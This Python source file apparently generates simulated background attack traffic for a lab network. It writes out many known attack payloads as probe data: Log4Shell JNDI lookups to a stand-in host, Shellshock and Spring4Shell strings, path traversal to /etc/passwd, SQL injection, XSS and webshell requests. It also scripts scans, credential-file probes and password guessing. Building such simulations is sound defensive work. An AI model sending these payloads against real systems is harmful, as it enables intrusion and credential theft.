"""The steady noise from outside: probes, scans and guesses by many hosts, unrelated to each other."""

import world
from background import every, moments
from steps import Step, curl, fetch, nmap, python, ssh_guess, sweep, talk

PLAIN = world.AGENTS[1]
LOOKUP = "${jndi:ldap://203.0.113.53:1389/Demo}"


def probe(target, path, *options, agent=PLAIN):
    """One request to a server by its address, the path kept as it is."""
    return curl("--path-as-is", *options, *fetch(f"http://{target}{path}"), agent=agent)


# How often (of all probes) and what. Every entry is a request as published advisories describe it; none does harm here.
PROBES = [
    (2, lambda: probe(world.WEB, "/?q=" + LOOKUP, "-g")),
    (1, lambda: probe(world.APP, "/login", "-H", "X-Api-Version: " + LOOKUP)),
    (1, lambda: probe(world.API, "/api/items", agent=LOOKUP)),
    (1, lambda: probe(world.WEB, "/", "-H", "X-Forwarded-For: ${${lower:j}ndi:${lower:l}dap://203.0.113.53:1389/Demo}")),
    (1, lambda: probe(world.API, "/api/items", "-d", "name=" + LOOKUP)),
    (3, lambda: probe(world.APP, "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd")),
    (2, lambda: probe(world.APP, "/icons/.%2e/%2e%2e/%2e%2e/etc/hosts")),
    (1, lambda: probe(world.APP, "/cgi-bin/.%%32%65/.%%32%65/.%%32%65/bin/sh", "-d", "echo; id")),
    (1, lambda: probe(world.APP, "/status", agent="() { :;}; echo; /usr/bin/id")),
    (1, lambda: probe(world.APP, "/account", "-d", "class.module.classLoader.resources.context.parent.pipeline.first.pattern=demo")),
    (6, lambda: probe(world.APP, "/%24%7B%28%23a%3D%40demo%40run%28%22id%22%29%29%7D/")),
    (10, lambda: probe(world.WEB, "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "-d", "<?=md5(1)?>")),
    (16, lambda: probe(world.APP, "/items?id=17%20UNION%20SELECT%20name,pass%20FROM%20users--")),
    (14, lambda: probe(world.APP, "/items?id=17'%20or%20'1'='1")),
    (8, lambda: probe(world.APP, "/items?id=17)%20AND%20SLEEP(5)--", agent="sqlmap/1.8.4#stable (https://sqlmap.org)")),
    (16, lambda: probe(world.WEB, "/search?q=%3Cscript%3Ealert(1)%3C/script%3E")),
    (10, lambda: probe(world.WEB, "/search?q=%22%20onerror=alert(1)")),
    (4, lambda: probe(world.APP, "/upload.php", "--data-binary", "<?php echo 'demo'; ?>")),
    (8, lambda: probe(world.APP, "/uploads/shell.php?cmd=id")),
    (14, lambda: probe(world.WEB, "/static/../../../../etc/passwd")),
    (32, lambda: probe(world.WEB, "/.env")),
    (20, lambda: probe(world.WEB, "/.git/config")),
    (10, lambda: probe(world.API, "/.aws/credentials")),
    (28, lambda: probe(world.WEB, "/wp-login.php")),
    (16, lambda: probe(world.WEB, "/phpmyadmin/index.php")),
    (12, lambda: probe(world.APP, "/manager/html", "-u", "tomcat:tomcat")),
    (16, lambda: probe(world.WEB, "/", agent="Mozilla/5.0 zgrab/0.x")),
    (12, lambda: probe(world.WEB, "/favicon.ico", agent="Nuclei - Open-source project")),
    (8, lambda: probe(world.WEB, "/nothing", agent="Mozilla/5.00 (Nikto/2.5.0)")),
]


def probes(rng, count, length):
    """Every kind at least once, the rest by weight."""
    kinds = PROBES + rng.choices(PROBES, [weight for weight, _ in PROBES], k=count - len(PROBES))
    rng.shuffle(kinds)
    whens = moments(rng, count, length)
    return [Step(at, "out", rng.choice(world.ATTACKERS), request(), settle=0.01) for at, (_, request) in zip(whens, kinds)]


def knocks(rng, count, length):
    """Single attempts at doors that ought not to be open."""
    steps = []
    for at in moments(rng, count, length):
        who = rng.choice(world.ATTACKERS)
        target = rng.choice([world.WEB, world.JUMP, world.MAIL, world.FTP])
        port = rng.choice(["3389", "5900", "445", "1433"])
        command = rng.choice(
            [
                nmap(who, "-sS", "-p", port, target),
                nmap(who, "-sS", "-p", port, target),
                ["ping", "-c", "1", "-W", "1", target],
                talk(world.JUMP, 23, "admin", "admin"),
                talk(world.MAIL, 25, "EHLO probe.test", "AUTH PLAIN AHRlc3QAdGVzdA==", "QUIT"),
            ]
        )
        steps.append(Step(at, "out", who, command))
    return steps


BANNERS = ["SSH-2.0-libssh_0.9.6", "SSH-2.0-Go", "SSH-2.0-paramiko_3.4.0", "SSH-2.0-PUTTY"]
FTP_NAMES = ["admin", "ftpuser", "www", "test", "backup", "oracle", "webmaster", "upload"]


def ssh_guesses(rng, start, who, count):
    """Connections of a guessing tool, about two seconds apart."""
    banner = rng.choice(BANNERS)
    return [Step(start + 2.1 * n + rng.uniform(0, 0.6), "out", who, talk(world.JUMP, 22, banner)) for n in range(count)]


def ftp_guesses(rng, start, who, count):
    script = []
    for n in range(count):
        script += [f"USER {rng.choice(FTP_NAMES)}", f"PASS {rng.choice(['123456', 'password', 'admin', 'letmein'])}{n}"]
    return [Step(start, "out", who, talk(world.FTP, 21, *script, "QUIT"))]


def web_guesses(rng, start, who, count):
    return [
        Step(start + 1.5 * n, "out", who, curl("-u", f"admin:guess{n}", *fetch(f"http://{world.WEB}/admin"), agent="python-requests/2.31.0"))
        for n in range(count)
    ]


def search(start, who):
    """A search for pages that may exist, over one connection."""
    names = "admin backup old test dev config db sql api private tmp logs phpinfo.php shell.php cgi-bin portal cms vendor".split()
    return Step(start, "out", who, curl(*fetch(*(f"http://{world.APP}/{name}" for name in names)), agent="gobuster/3.6"))


SCANS = [
    ["-sS", "-T4", "--top-ports", "90"],
    ["-sX", "-p", "21,22,25,80,443"],
    ["-sN", "-p", "22,80,443"],
    ["-sV", "-p", "21,22,25,80"],
    ["-sS", "-f", "-p", "22,80"],
    ["-sS", "-p", "80", "--ip-options", "\\x83\\x03\\x10"],
]


def make(rng, demo, length):
    steps = probes(rng, 270, length) + knocks(rng, 130, length)
    attackers = rng.sample(world.ATTACKERS, len(world.ATTACKERS))
    for number, at in enumerate(every(rng, 105, length, 20)):
        steps += ssh_guesses(rng, at, attackers[number % len(attackers)], rng.randint(8, 16))
    for number, at in enumerate(every(rng, 200, length, 40)):
        steps += ftp_guesses(rng, at, attackers[-1 - number], rng.randint(10, 16))
    for number, at in enumerate(every(rng, 380, length, 60)):
        steps += web_guesses(rng, at, attackers[(number * 5 + 3) % len(attackers)], 10)
    for number, at in enumerate(every(rng, 150, length, 40)):
        who = attackers[(number * 3 + 1) % len(attackers)]
        steps.append(Step(at, "out", who, nmap(who, *SCANS[number % len(SCANS)], rng.choice([world.WEB, world.APP, world.JUMP]))))
    for at in every(rng, 420, length, 60):
        who = rng.choice(attackers)
        steps.append(Step(at, "out", who, sweep(who, "172.16.5.16-60")))
        steps.append(search(at + 60, who))
    for at in every(rng, 190, length, 30):
        steps.append(Step(at, "out", rng.choice(attackers), ssh_guess(demo, world.JUMP, rng.choice(["root", "admin", "ubuntu", "git"]))))
    for at in every(rng, 240, length, 50):
        steps.append(Step(at, "out", rng.choice(attackers), python("udp", "192.168.50.12", 161, "snmp", "public")))
    return steps
